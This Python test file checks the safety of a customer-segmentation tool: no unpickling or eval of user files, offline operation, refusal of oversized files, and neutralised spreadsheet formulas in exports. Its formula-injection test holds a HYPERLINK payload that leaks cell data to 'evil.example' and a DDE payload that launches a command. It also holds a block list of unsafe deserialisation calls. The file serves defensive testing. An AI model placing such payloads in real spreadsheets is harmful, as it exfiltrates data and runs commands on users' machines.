"""Offline and safe: no network, no code run from user files, inert formulas in exports, limits stated."""

import ast
import socket
from pathlib import Path

import pandas as pd
import pytest

from core import loading
from core.cli import EXIT_BAD_INPUT, EXIT_OK, main
from core.errors import InputFileError
from tests.corpus.make_corpus import csv_text, customers

PROJECT_ROOT = Path(__file__).resolve().parents[2]
# Calls that run code or rebuild arbitrary objects from bytes: never allowed on anything a user supplies.
UNSAFE_CALLS = {
    ("pickle", "load"), ("pickle", "loads"), ("pickle", "Unpickler"), ("marshal", "load"),
    ("marshal", "loads"), ("joblib", "load"), ("shelve", "open"), ("dill", "load"), ("dill", "loads"),
    ("cloudpickle", "load"), ("cloudpickle", "loads"), ("yaml", "load"), ("yaml", "unsafe_load"),
    ("pd", "read_pickle"), ("pandas", "read_pickle"), ("np", "load"), ("numpy", "load"),
}  # fmt: skip
UNSAFE_BUILTINS = {"eval", "exec", "compile", "__import__"}


def unsafe_uses(source: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            modules = [alias.name for alias in node.names] + (
                [node.module] if isinstance(node, ast.ImportFrom) else []
            )
            found += [
                f"import {name}"
                for name in modules
                if name
                and name.split(".")[0] in {"pickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}
            ]
        if not isinstance(node, ast.Call):
            continue
        function = node.func
        if isinstance(function, ast.Name) and function.id in UNSAFE_BUILTINS:
            found.append(f"{function.id}() at line {node.lineno}")
        elif (
            isinstance(function, ast.Attribute)
            and isinstance(function.value, ast.Name)
            and (function.value.id, function.attr) in UNSAFE_CALLS
        ):
            found.append(f"{function.value.id}.{function.attr}() at line {node.lineno}")
    return found


def test_the_scan_recognises_unsafe_code():
    assert unsafe_uses("import pickle\npickle.loads(b'')\neval('1')\npd.read_pickle('x')\n") == [
        "import pickle", "pickle.loads() at line 2", "eval() at line 3", "pd.read_pickle() at line 4",
    ]  # fmt: skip
    assert unsafe_uses("json.loads(text)\nframe.eval\n") == []


@pytest.mark.parametrize("package", ["core", "desktop_app"])
def test_no_user_file_is_ever_unpickled_or_evaluated(package):
    problems = {
        str(path.relative_to(PROJECT_ROOT)): found
        for path in sorted((PROJECT_ROOT / package).rglob("*.py"))
        if (found := unsafe_uses(path.read_text(encoding="utf-8")))
    }
    assert problems == {}


@pytest.fixture
def no_network(monkeypatch):
    attempts = []

    def refuse(*arguments, **keywords):
        attempts.append(arguments)
        raise OSError("network access is blocked in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def test_analysis_exports_and_assign_work_with_the_network_blocked(no_network, capsys, tmp_path):
    source = tmp_path / "customers.csv"
    source.write_text(csv_text(customers()), encoding="utf-8")
    code = main([
        "analyze", str(source), "--k", "3", "--k-max", "4", "--report", str(tmp_path / "report.pdf"),
        "--model", str(tmp_path / "model.json"), "--workbook", str(tmp_path / "segments.xlsx"),
        "--labels", str(tmp_path / "labelled.csv"), "--dashboard", str(tmp_path / "dashboard.html"),
    ])  # fmt: skip
    assert code == EXIT_OK, capsys.readouterr().err
    code = main(["assign", str(tmp_path / "model.json"), str(source), "--labels", str(tmp_path / "new.csv")])
    assert code == EXIT_OK, capsys.readouterr().err
    assert (tmp_path / "report.pdf").read_bytes().startswith(b"%PDF")
    assert no_network == []


def test_the_network_block_really_blocks(no_network):
    with pytest.raises(OSError, match="blocked"):
        socket.create_connection(("example.com", 80), timeout=1)


def test_a_formula_in_a_customer_file_is_inert_in_the_labelled_export(capsys, tmp_path):
    frame = customers()
    frame.insert(1, "Name", [f"Customer {number}" for number in range(len(frame))])
    frame.loc[0, "Name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    frame.loc[1, "Name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    source = tmp_path / "customers.csv"
    source.write_text(csv_text(frame), encoding="utf-8")
    for suffix in (".csv", ".xlsx"):
        labels = tmp_path / f"labelled{suffix}"
        assert main(["analyze", str(source), "--k", "3", "--k-max", "4", "--labels", str(labels)]) == EXIT_OK
        written = pd.read_csv(labels) if suffix == ".csv" else pd.read_excel(labels)
        assert written.loc[0, "Name"] == "'" + frame.loc[0, "Name"]
        assert written.loc[1, "Name"] == "'" + frame.loc[1, "Name"]
        assert written.loc[2, "Name"] == "Customer 2"
    capsys.readouterr()


def sparse_file(path: Path, size: int) -> Path:
    """A file of `size` bytes that starts like a customer table but takes no disk space."""
    with path.open("wb") as handle:
        handle.write(b"CustomerID,Age,Income\n1,34,52000\n")
        handle.truncate(size)
    return path


def test_a_file_too_large_for_memory_is_refused_before_loading(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr(loading, "available_memory_bytes", lambda: 8 * 1024**3)
    monkeypatch.setattr(loading, "_read_text", pytest.fail)  # reading must not even start
    path = sparse_file(tmp_path / "all_orders.csv", 30 * 1024**3)
    with pytest.raises(InputFileError) as refused:
        loading.load_table(path)
    message = str(refused.value)
    assert "'all_orders.csv'" in message
    assert "it is 30 GB" in message
    assert "this computer has 8 GB free" in message
    assert "Split the file into smaller parts or choose fewer columns" in message
    assert main(["analyze", str(path)]) == EXIT_BAD_INPUT
    assert capsys.readouterr().err.startswith("error: Cannot open 'all_orders.csv': it is 30 GB")


def test_a_file_that_fits_is_loaded_and_a_preview_is_never_refused(monkeypatch, tmp_path):
    monkeypatch.setattr(loading, "available_memory_bytes", lambda: 4 * 1024)
    small = tmp_path / "small.csv"
    small.write_text(csv_text(customers(20)), encoding="utf-8")  # under 1 KB: needs under 3 KB
    assert len(loading.load_table(small).frame) == 20
    big = tmp_path / "big.csv"
    big.write_text(csv_text(customers(200)), encoding="utf-8")  # about 8 KB: needs about 24 KB
    assert len(loading.load_table(big, max_rows=5).frame) == 5
    with pytest.raises(InputFileError, match="this computer has 4 KB free"):
        loading.load_table(big)


def test_available_memory_is_known_on_this_machine():
    available = loading.available_memory_bytes()
    assert available is None or available > 0
